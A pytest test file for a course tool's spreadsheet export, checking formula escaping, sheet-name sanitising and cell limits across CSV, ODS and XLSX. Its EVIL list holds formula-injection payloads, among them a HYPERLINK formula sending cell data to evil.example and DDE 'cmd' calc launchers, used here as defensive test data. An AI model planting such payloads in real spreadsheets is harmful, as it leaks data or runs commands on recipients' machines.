"""The list as a file: numbers stay numbers, and no name becomes a formula."""

import csv
import io
import re
import zipfile
from typing import Any
from xml.sax.saxutils import unescape

import pytest
from hypothesis import given
from hypothesis import strategies as st
from odfdo import Document

from lti_tool.courses.export_course import CourseTable, export_course
from lti_tool.courses.spreadsheets import as_csv, as_ods, as_xlsx
from lti_tool.domain.words.texts_in_files import csv_cell, utf16_units
from tests.courses.conftest import M1, School

EVIL = [
    '=HYPERLINK("https://evil.example/?x="&A1;"Klick")',
    "+49 30 1234",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    " =1+1",
    "\r=1+1",
    "＝1+1",
]
TABLE = CourseTable("Kurs: [A/B]", ("Name", "Prozent"), tuple((name, 87.5) for name in [*EVIL, "Ayşe <Çelik> & Söhne"]))


@pytest.mark.parametrize("text", EVIL)
def test_a_text_that_looks_like_a_formula_is_marked_as_text_in_csv(text: str) -> None:
    assert csv_cell(text) == f"'{text.strip()}"


@pytest.mark.parametrize("text", ["Anna Krüger", "", "1 = 1", "O'Neill", "Anna-Lena"])
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert csv_cell(text) == text


def test_csv_opens_in_german_spreadsheets() -> None:
    raw = as_csv(TABLE)
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert rows[0] == ["Name", "Prozent"]
    assert rows[1][0].startswith("'=HYPERLINK")
    assert rows[-1] == ["Ayşe <Çelik> & Söhne", "87,5"]


def test_ods_holds_texts_and_numbers_and_no_formula() -> None:
    raw = as_ods(TABLE)
    with zipfile.ZipFile(io.BytesIO(raw)) as package:
        first = package.infolist()[0]
        assert (first.filename, first.compress_type) == ("mimetype", zipfile.ZIP_STORED)
        assert b"table:formula" not in package.read("content.xml")
    sheet: Any = Document(io.BytesIO(raw)).body.get_table(0)
    assert sheet.name == "Kurs A B"
    assert sheet.get_value((0, 1)) == EVIL[0]
    assert sheet.get_cell((0, 1)).formula is None
    assert sheet.get_value((0, len(EVIL) + 1)) == "Ayşe <Çelik> & Söhne"
    assert float(sheet.get_value((1, 1))) == 87.5


def test_xlsx_holds_texts_and_numbers_and_no_formula() -> None:
    with zipfile.ZipFile(io.BytesIO(as_xlsx(TABLE))) as package:
        sheet = package.read("xl/worksheets/sheet1.xml").decode()
        texts = package.read("xl/sharedStrings.xml").decode()
    assert "<f>" not in sheet
    assert "<hyperlink" not in sheet
    assert "=HYPERLINK" in texts
    assert "<v>87.5</v>" in sheet


@pytest.mark.parametrize(
    ("title", "name"),
    [
        ("🏙️ Smart City Manager:in Herbst 2026 Potsdam", "🏙️ Smart City Manager in Herbs"),
        ("🏙" * 20, "🏙" * 15),
        ("👩🏽‍💻" * 9, "👩🏽‍💻" * 4),
        ("🇩🇪" * 9, "🇩🇪" * 7),
        ("a" * 30 + "🏙", "a" * 30),
        ("a" * 30 + "e\u0323\u0302\u0301", "a" * 30),
        ("'Kurs'", "Kurs"),
        ("O'Neills Kurs", "O'Neills Kurs"),
        ("a" * 30 + "'b", "a" * 30),
        ("History", "Kurs"),
        ("Verlauf", "Kurs"),
        ("[]:*?/\\", "Kurs"),
        ("\u200b\ufeff", "Kurs"),
        ("Teil\x0beins", "Teil eins"),
    ],
)
def test_any_title_of_a_course_names_a_sheet_in_every_format(title: str, name: str) -> None:
    table = CourseTable(title, ("Name",), (("Anna",),))
    with zipfile.ZipFile(io.BytesIO(as_xlsx(table))) as package:
        book = package.read("xl/workbook.xml").decode()
    assert unescape(re.findall('<sheet name="([^"]*)"', book)[0]) == name
    sheet: Any = Document(io.BytesIO(as_ods(table))).body.get_table(0)
    assert sheet.name == name
    assert as_csv(table)


@given(st.text() | st.text(alphabet="🏙👩🏽\u200d💻\ufe0f🇩'[]: aä\u0301\ud800"))
def test_no_title_and_no_name_keeps_the_list_from_being_written(text: str) -> None:
    table = CourseTable(text, (text, "Prozent"), ((text, 1.5),))
    for write in (as_xlsx, as_ods, as_csv):
        assert write(table)


def test_a_cell_holds_no_more_than_excel_takes() -> None:
    table = CourseTable("Kurs", ("Name",), (("🏙" * 20_000,),))
    with zipfile.ZipFile(io.BytesIO(as_xlsx(table))) as package:
        texts = package.read("xl/sharedStrings.xml").decode()
    assert utf16_units("".join(re.findall("🏙", texts))) == 32_766


def test_characters_that_xml_forbids_are_left_out() -> None:
    table = CourseTable("\x00", ("Name",), (("An\x00na\x0b",),))
    sheet: Any = Document(io.BytesIO(as_ods(table))).body.get_table(0)
    assert (sheet.name, sheet.get_value((0, 1))) == ("Kurs", "Anna")
    assert as_xlsx(table)


def test_the_list_has_one_row_for_each_participant(school: School) -> None:
    anna = school.member("Anna")
    school.complete(anna, M1)
    school.deliver(anna, M1, school.line_item(M1))
    school.member(None, is_gone=True)
    table = export_course(
        school.session,
        school.programme,
        school.teacher(),
        say=lambda text, **values: text % values if values else text,
        now=school.now,
    )
    assert len(table.head) == 30
    assert table.rows[0][:10] == (
        *("Anna", "ja", 1),
        *("bestanden", "", 90.0, 1, "angekommen"),
        *("offen", "5 Lektionen, Lernerfolgskontrolle"),
    )
    assert table.rows[1][1] == "nein"
    assert {len(row) for row in table.rows} == {30}
